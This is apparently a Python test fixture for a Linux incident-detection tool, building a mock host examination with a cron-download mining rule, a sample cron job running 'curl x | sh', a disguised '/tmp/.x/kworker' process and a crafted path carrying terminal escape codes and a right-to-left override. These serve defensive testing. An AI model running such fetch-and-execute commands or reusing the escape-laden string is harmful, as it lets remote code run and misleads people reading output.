"""A made-up examination, for the tests of reports."""

from datetime import UTC, datetime

from hemostat.detect.judge import findings_of
from hemostat.examine.knowledge import shipped_knowledge
from hemostat.incident.stability import stability_of
from hemostat.model.coverage import CoverageEntry, Outcome
from hemostat.model.evidence import Source
from hemostat.model.examination import Examination, PlaceCoverage
from hemostat.model.finding import Claim, Finding, Observable, RuleInfo, RuleTexts, Subject
from hemostat.model.host import HostClock, HostIdentity
from hemostat.model.level import Level
from hemostat.model.path import HostPath, decode
from hemostat.model.record_set import RecordSet
from hemostat.model.records import CronJob, Process
from hemostat.model.text import Text

KNOWLEDGE = shipped_knowledge()
HOST = HostIdentity(id="ab12", id_from="machine-id", name="web-01")
NOW = datetime(2026, 11, 22, 2, 0, tzinfo=UTC)


def rule(name: str = "linux.test.a", level: Level = Level.HIGH, **more: object) -> RuleInfo:
    values: dict[str, object] = {
        "name": name,
        "kind": "sigma",
        "level": level,
        "confidence": Level.MEDIUM,
        "category": "cron_download",
        "attack": ("T1053.003",),
        "incident_types": ("mining",),
        "texts": RuleTexts(
            Text("A job fetches a program", "定时任务下载程序"),
            Text("{path} runs {command}", "{path} 运行 {command}"),
            Text("An installer may do so.", "安装程序可能如此。"),
        ),
        "next": ("disable-persistence", "keep-evidence"),
        "by_hand": "cat {path}",
    }
    return RuleInfo(**(values | more))  # type: ignore[arg-type]


def claim(path: str = "/etc/cron.d/x", command: str = "curl x | sh", **more: object) -> Claim:
    source = Source("sha256:" + "0" * 64, HostPath(path), 3, None, command)
    values: dict[str, object] = {
        "subjects": (Subject("cron_job", path),),
        "because": (CronJob(source=source, when="* * * * *", user="root", command=command),),
        "values": {"path": path, "command": command},
        "observables": (Observable("ipv4-addr", "203.0.113.9"),),
    }
    return Claim(**(values | more))  # type: ignore[arg-type]


def process_claim(exe: str = "/tmp/.x/kworker", pid: int = 4711) -> Claim:
    return Claim(
        subjects=(Subject("process", exe, (("pid", pid),)),),
        because=(Process(pid=pid, exe=HostPath(exe)),),
        values={"path": exe, "command": ""},
        first_seen=NOW,
    )


HOSTILE = decode(b"/tmp/\x1b[2Jx\n\xff") + "\u202e"


def findings(*claims: tuple[RuleInfo, Claim]) -> tuple[Finding, ...]:
    return findings_of(claims, HOST)


def examination(*claims: tuple[RuleInfo, Claim], **more: object) -> Examination:
    coverage = (
        PlaceCoverage(
            "linux.cron.system",
            Text("System crontab", "系统 crontab"),
            True,
            (CoverageEntry("linux.cron.system", HostPath("/etc/crontab"), Outcome.READ),),
        ),
        PlaceCoverage(
            "linux.cron.user",
            Text("Crontabs of users", "用户 crontab"),
            True,
            (
                CoverageEntry(
                    "linux.cron.user", HostPath("/var/spool/cron"), Outcome.DENIED, "denied"
                ),
            ),
        ),
    )
    values: dict[str, object] = {
        "identity": HOST,
        "clock": HostClock(examined=NOW),
        "source": "this host",
        "source_kind": "live",
        "system": "Debian GNU/Linux 12 (bookworm)",
        "is_running": True,
        "is_live": True,
        "as_root": True,
        "coverage": coverage,
        "findings": findings(*claims),
        "records": RecordSet(),
        "engine_version": "0.1.0",
        "stability": stability_of(
            findings(*claims),
            coverage,
            is_running=bool(more.get("is_running", True)),
            is_complete=bool(more.get("is_complete", True)),
            has_packages=True,
        ),
    }
    return Examination(**(values | more))  # type: ignore[arg-type]
